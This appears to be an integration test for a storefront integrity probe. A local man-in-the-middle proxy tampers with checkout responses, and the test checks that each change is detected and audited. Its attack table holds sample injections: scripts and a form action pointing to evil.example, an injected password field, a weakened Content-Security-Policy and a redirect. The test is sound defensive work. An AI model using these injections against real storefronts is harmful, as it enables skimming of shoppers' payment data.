"""Whoever changes what shoppers are served is seen from the private zone: by real core and edge, with somebody
between them and shoppers who changes answers, and with a changed file on the edge itself."""

import contextlib
import http.server
import json
import pathlib
import ssl
import sys
import threading
import urllib.error
import urllib.request

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "support"))
import shop as shops  # noqa: E402

SCRIPT = "main-AAAAAAAA.js"
STYLE = "style-AAAAAAAA.css"


def make_build(folder):
    """A small build of the storefront; that of web/storefront may not be there."""
    folder.mkdir()
    texts = {SCRIPT: "console.log('a shop');\n" * 50, STYLE: "body { margin: 0 }\n" * 50,
             "icon-AAAAAAAA.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>'}
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "manifest.json").write_text(json.dumps({
        "src/main.ts": {"file": SCRIPT}, "src/storefront.css": {"file": STYLE},
        "src/images/icon.svg": {"file": "icon-AAAAAAAA.svg"}}), encoding="utf-8")
    return folder


class Between:
    """What stands between shoppers and the edge: hands on, unless told to change an answer."""

    def __init__(self, shop, port):
        self.attack = None  # (path, status, headers, body) -> (status, headers, body)
        self.seen = []
        between = self
        trust = ssl.create_default_context(cafile=shop.ca_file)

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                between.seen.append((self.path, dict(self.headers)))
                coding = {} if between.attack else {"Accept-Encoding": self.headers["Accept-Encoding"]}
                asked = urllib.request.Request(shop.https + self.path, headers=coding)
                opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=trust))
                try:
                    with opener.open(asked, timeout=10) as answer:
                        got = answer.status, list(answer.headers.items()), answer.read()
                except urllib.error.HTTPError as error:
                    got = error.code, list(error.headers.items()), error.read()
                except OSError:
                    got = 502, [], b""
                if between.attack and got[0] == 200:
                    got = between.attack(self.path, *got)
                status, headers, body = got
                self.send_response_only(status)
                for name, value in headers:
                    if name.lower() not in ("content-length", "connection"):
                        self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                with contextlib.suppress(OSError):  # the probe hangs up on what is too large
                    self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        identity = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        pki = shop.edge_folder() / "pki"
        identity.load_cert_chain(pki / "edge-https.crt", pki / "edge-https.key")
        self.server.socket = identity.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def on_checkout(change):
    """An attack on the Indonesian checkout alone."""
    def attack(path, status, headers, body):
        return change(status, headers, body) if path == "/id/checkout" else (status, headers, body)
    return attack


def with_body(old, new):
    def change(status, headers, body):
        assert old in body, body
        return status, headers, body.replace(old, new, 1)
    return change


def without_header(name):
    return lambda status, headers, body: (status, [one for one in headers if one[0] != name], body)


def loose_policy(status, headers, body):
    return status, [(name, value.replace("script-src 'self'", "script-src *")) for name, value in headers], body


ATTACKS = {
    "an inline script": on_checkout(with_body(b"</head>", b'<script type="module">steal()</script></head>')),
    "a script that was not accepted": on_checkout(
        with_body(b"</head>", b'<script type="module" src="/assets/app/evil-AAAAAAAA.js"></script></head>')),
    "a foreign address on <script>": on_checkout(
        with_body(b'src="/assets', b'src="https://evil.example/assets')),
    "is not written as our pages are": on_checkout(with_body(b"</head>", b"<script>1 < 2</script></head>")),
    "an attribute onclick": on_checkout(with_body(b"<h1 ", b'<h1 onclick="steal()" ')),
    "a foreign address on <form>": on_checkout(
        with_body(b'action="/id/checkout"', b'action="https://evil.example/"')),
    "an element that such a page does not have": on_checkout(
        with_body(b"</main>", b'<p><input type="password" id="pin"></p></main>')),
    "no header Content-Security-Policy": on_checkout(without_header("Content-Security-Policy")),
    "header Content-Security-Policy is": on_checkout(loose_policy),
    "leads to https://evil.example/": on_checkout(
        lambda status, headers, body: (302, [("Location", "https://evil.example/")], b"")),
    "too large": on_checkout(lambda status, headers, body: (status, headers, body + b" " * 2_000_000)),
    "an answer of more than": on_checkout(lambda status, headers, body: (status, headers, b" " * 9_000_000)),
    "SHA-256 is": lambda path, status, headers, body: (
        status, headers, body + b";" if path.endswith(SCRIPT) else body),
    "answers 404": lambda path, status, headers, body: (404 if path.endswith(STYLE) else status, headers, body),
}


def metric(shop, name):
    body = shops.http_get(f"http://127.0.0.1:{shop.port_base + 10}/metrics")[2].decode()
    lines = [line for line in body.splitlines() if line.startswith("dermaga_core_storefront_probe_" + name + " ")]
    return float(lines[0].split()[1]) if lines else None


def told(shop, action):
    return [line for line in shop.run_core("audit", "list", "--limit", "1000").splitlines()
            if line.split()[3] == action]


def probe_run(shop, expect):
    return shop.run_core("probe", "run", expect=expect)


def every_attack_is_seen(shop, between):
    assert "the build that was accepted" in probe_run(shop, 0)
    for what, attack in ATTACKS.items():
        between.attack = attack
        output = probe_run(shop, 1)
        assert "TAMPERED" in output and what in output, (what, output)
    between.attack = None
    path, headers = between.seen[-1]
    assert "Chrome" in headers["User-Agent"] and "dermaga" not in json.dumps(headers).lower(), headers
    assert len(told(shop, "storefront.tampered")) == 1, told(shop, "storefront.tampered")
    shops.wait_until("the alarm is taken back", lambda: metric(shop, "tampered") == 0)
    assert len(told(shop, "storefront.intact")) == 1


def a_changed_file_on_the_edge_is_seen(shop):
    script = shop.assets / SCRIPT
    good = script.read_text(encoding="utf-8")
    shop.stop(shop.edges[1])
    output = probe_run(shop, 1)
    assert "was not reached" in output and "TAMPERED" not in output, output
    assert metric(shop, "tampered") == 0

    script.write_text(good.replace("a shop", "a shop?"), encoding="utf-8")
    shop.start_edge()
    shops.wait_until("the probe gives alarm by itself", lambda: metric(shop, "tampered") == 1)
    alarm = told(shop, "storefront.tampered")
    assert len(alarm) == 2 and f"/assets/app/{SCRIPT}" in alarm[1] and "SHA-256 is" in alarm[1], alarm
    assert f"TAMPERED /assets/app/{SCRIPT}" in probe_run(shop, 1)
    core_log = (shop.data / "private/log/core.log").read_text(encoding="utf-8")
    assert '"event":"storefront_tampered"' in core_log

    # It was the shop's own: somebody accepts it.
    shop.run_core("probe", "accept", "--assets", str(shop.assets), expect=1)  # not without a reason
    shop.run_core("probe", "accept", "--assets", str(shop.assets), "--reason", "release 2")
    assert "(release 2)" in told(shop, "storefront.accept")[1]
    assert "the build that was accepted" in probe_run(shop, 0)
    shops.wait_until("the alarm is taken back", lambda: metric(shop, "tampered") == 0)
    assert metric(shop, "last_success_timestamp_seconds") > 1.7e9


def a_forged_manifest_is_not_believed(shop):
    manifest = shop.data / "private/storefront.manifest"
    good = manifest.read_bytes()
    assert manifest.stat().st_mode & 0o777 == 0o600
    manifest.write_bytes(good.replace(b"release 2", b"release 3"))
    assert "was not signed by this shop" in probe_run(shop, 1)
    manifest.write_bytes(good)
    probe_run(shop, 0)


def main():
    with shops.shop(start=False) as shop, contextlib.ExitStack() as stack:
        shop.assets = make_build(shop.folder / "build")
        assert "no build was accepted" in shop.run_core("probe", "show", expect=1)
        for _ in range(2):  # the second time keeps what is there
            shop.run_core("init", "--port-base", str(shop.port_base), "--assets", str(shop.assets))
        assert len(told(shop, "storefront.accept")) == 1
        assert SCRIPT in shop.run_core("probe", "show")
        port = shop.port_base + 39
        shop.settings = shop.folder / "shop.toml"
        shop.settings.write_text(f'[shop]\npublic_url = "https://localhost:{port}"\n'
                                 '[probe]\ninterval_seconds = 1\n', encoding="utf-8")
        shop.start_core()
        shop.start_edge(1, "--public-url", f"https://localhost:{port}")
        between = Between(shop, port)
        stack.callback(between.close)
        shops.wait_until("a look by itself", lambda: metric(shop, "last_success_timestamp_seconds") is not None)
        every_attack_is_seen(shop, between)
        a_changed_file_on_the_edge_is_seen(shop)
        a_forged_manifest_is_not_believed(shop)
        assert "nothing was changed" in shop.run_core("audit", "verify")
        shop.verify()
    print("every change was seen, each alarm told once, and taken back")


if __name__ == "__main__":
    main()
